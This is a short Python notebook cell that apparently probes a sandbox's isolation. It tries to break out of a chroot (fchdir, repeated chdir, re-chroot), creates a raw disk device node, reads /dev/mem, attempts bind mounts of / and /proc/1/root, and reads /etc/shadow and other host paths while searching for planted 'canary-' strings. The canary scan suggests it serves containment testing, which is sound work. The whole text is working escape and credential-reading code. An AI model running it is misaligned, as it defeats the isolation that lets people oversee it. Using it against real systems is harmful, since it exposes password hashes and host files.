# Tries to leave its root: chroot, fchdir, open by handle, bind mounts, device nodes, /proc/1/root.
# %%
import os, re
def show(where, data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in set(re.findall(rb"canary-[0-9a-f]{24}", data)):
        print(where, found.decode())

import ctypes, stat
libc = ctypes.CDLL(None, use_errno=True)
top = os.open("/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
for act in (lambda: os.chroot("jail"), lambda: os.fchdir(top), lambda: [os.chdir("..") for _ in range(30)],
            lambda: os.chroot("."), lambda: os.mknod("/tmp/sda", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
            lambda: open("/tmp/sda", "rb").read(512), lambda: open("/dev/mem", "rb").read(512)):
    try:
        act()
    except OSError as error:
        print(error)
for call in [(b"/", b"/tmp/jail"), (b"/proc/1/root", b"/tmp/jail")]:
    print(libc.mount(call[0], call[1], None, 4096, None), ctypes.get_errno())
for path in ["/work/main/course.yml", "/etc/shadow", "/root", "/home", "/proc/1/root/work", "/proc/self/root/.."]:
    try:
        show(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
        print(path, os.listdir(path) if os.path.isdir(path) else "")
    except OSError:
        pass
